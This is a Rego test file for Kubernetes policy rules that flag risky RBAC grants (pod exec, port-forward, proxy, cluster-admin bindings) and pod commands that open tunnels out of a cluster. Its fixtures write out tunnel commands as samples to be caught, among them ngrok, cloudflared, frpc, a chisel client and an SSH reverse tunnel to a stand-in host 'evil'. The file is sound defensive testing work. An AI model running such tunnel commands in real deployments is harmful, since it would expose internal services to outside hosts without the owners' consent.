package lib.weighbridge.requirements.net_test

import data.lib.weighbridge.requirements.mod_test as models

rules(kind, list) := {
	"apiVersion": "rbac.authorization.k8s.io/v1",
	"kind": kind,
	"metadata": {"name": "it", "namespace": "models"},
	"rules": list,
}

may(resources) := rules("Role", [{"apiGroups": [""], "resources": resources, "verbs": ["create"]}])

bound_to(kind, role, name) := {
	"apiVersion": "rbac.authorization.k8s.io/v1",
	"kind": kind,
	"metadata": {"name": "it", "namespace": "models"},
	"roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": role, "name": name},
	"subjects": [],
}

right_cases := {
	"NET-010": {
		"to look": [rules("Role", [{"apiGroups": [""], "resources": ["pods", "pods/log"], "verbs": ["get"]}]), false],
		"nothing": [rules("Role", []), false],
		"to forward ports": [may(["pods/portforward"]), true],
		"to execute": [may(["pods", "pods/exec"]), true],
		"to attach": [may(["pods/attach"]), true],
		"to proxy to pods": [may(["pods/proxy"]), true],
		"to proxy to services": [may(["services/proxy"]), true],
		"to proxy to nodes": [rules("ClusterRole", [{"apiGroups": [""], "resources": ["nodes/proxy"], "verbs": ["get"]}]), true],
		"to add containers": [may(["pods/ephemeralcontainers"]), true],
		"everything": [may(["*"]), true],
		"to execute anywhere": [may(["*/exec"]), true],
		"all below pods": [may(["pods/*"]), true],
		"in capitals": [may(["pods/Exec"]), true],
		"by reading, as sockets are opened": [rules("Role", [{"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["get"]}]), true],
		"of every group": [rules("Role", [{"apiGroups": ["*"], "resources": ["pods/exec"], "verbs": ["*"]}]), true],
		"of another group": [rules("Role", [{"apiGroups": ["apps"], "resources": ["*"], "verbs": ["*"]}]), false],
		"no group": [rules("Role", [{"resources": ["pods/exec"], "verbs": ["create"]}]), true],
		"groups that are none": [rules("Role", [{"apiGroups": "apps", "resources": ["pods/exec"], "verbs": ["create"]}]), true],
		"no verb": [rules("Role", [{"apiGroups": [""], "resources": ["pods/exec"], "verbs": []}]), false],
		"paths of the server": [rules("ClusterRole", [{"nonResourceURLs": ["/metrics"], "verbs": ["get"]}]), false],
		"the second rule": [rules("Role", [{"apiGroups": [""], "resources": ["pods"], "verbs": ["get"]}, {"apiGroups": [""], "resources": ["*"], "verbs": ["*"]}]), true],
		"a rule that is none": [rules("Role", ["pods/exec"]), true],
		"rules that are none": [rules("Role", {"verbs": ["*"]}), true],
		"gathered from others": [object.union(rules("ClusterRole", null), {"aggregationRule": {"clusterRoleSelectors": []}}), true],
		"of a version to come": [object.union(may(["pods/exec"]), {"apiVersion": "rbac.authorization.k8s.io/v2"}), true],
		"of OpenShift": [object.union(may(["pods/exec"]), {"apiVersion": "authorization.openshift.io/v1"}), true],
	},
	"NET-011": {
		"a role of the namespace": [bound_to("RoleBinding", "Role", "reader"), false],
		"view": [bound_to("RoleBinding", "ClusterRole", "view"), false],
		"edit": [bound_to("RoleBinding", "ClusterRole", "edit"), true],
		"admin": [bound_to("RoleBinding", "ClusterRole", "admin"), true],
		"everything, everywhere": [bound_to("ClusterRoleBinding", "ClusterRole", "cluster-admin"), true],
		"a kind in small letters": [bound_to("rolebinding", "clusterrole", "edit"), true],
		"no role": [object.remove(bound_to("RoleBinding", "Role", "reader"), ["roleRef"]), true],
		"a name that is none": [bound_to("RoleBinding", "ClusterRole", 7), true],
		"a kind that is none": [bound_to("RoleBinding", "Group", "reader"), true],
	},
}

runs(command, args) := json.patch(models.pod, [
	{"op": "add", "path": "/spec/containers/0/command", "value": command},
	{"op": "add", "path": "/spec/containers/0/args", "value": args},
])

tunnel_cases := {"NET-012": {
	"a server": [runs(["/usr/bin/server"], ["--model", "/models/kb-qa.onnx"]), false],
	"a model of that name": [runs(["server"], ["--model", "/models/chisel"]), false],
	"ngrok": [runs(["/opt/ngrok"], ["http", "8000"]), true],
	"in capitals, on Windows": [runs(["Cloudflared.EXE"], ["tunnel"]), true],
	"as an argument": [runs(["nohup"], ["frpc", "-c", "/etc/frpc.ini"]), true],
	"in a shell's line": [runs(["/bin/sh", "-c"], ["server & /opt/cloudflared tunnel run"]), true],
	"alone in a shell": [runs(["sh", "-c", "ngrok"], []), true],
	"after a separator": [runs(["sh", "-c"], ["server;chisel client evil R:8000"]), true],
	"quoted": [runs(["sh", "-c"], ["'ngrok' http 8000"]), true],
	"ssh with a way back": [runs(["ssh"], ["-N", "-R", "80:localhost:8000", "evil"]), true],
	"ssh in one option": [runs(["ssh", "-NR80:localhost:8000", "evil"], []), true],
	"ssh in a shell": [runs(["sh", "-c"], ["ssh -N -R 80:localhost:8000 evil"]), true],
	"kubectl proxy": [runs(["kubectl"], ["proxy", "--address=0.0.0.0"]), true],
	"kubectl in a shell": [runs(["sh", "-c"], ["kubectl port-forward svc/kb 8000"]), true],
	"kubectl that asks": [runs(["kubectl"], ["get", "pods"]), false],
	"Gradio": [runs(["python3"], ["app.py", "--share"]), true],
	"Gradio, said so": [runs(["python3"], ["app.py", "--share=True"]), true],
	"another option": [runs(["python3"], ["app.py", "--shared-memory"]), false],
	"Gradio by its variable": [changed(models.pod, "/spec/containers/0/env", [{"name": "GRADIO_SHARE", "value": "True"}]), true],
	"Gradio, not shared": [changed(models.pod, "/spec/containers/0/env", [{"name": "GRADIO_SHARE", "value": "False"}]), false],
	"in an init container": [
		changed(models.pod, "/spec/initContainers", [{"name": "i", "image": models.pod.spec.containers[0].image, "command": ["ngrok"]}]),
		true,
	],
	"words that are none": [runs([7, null, "server"], []), false],
}}
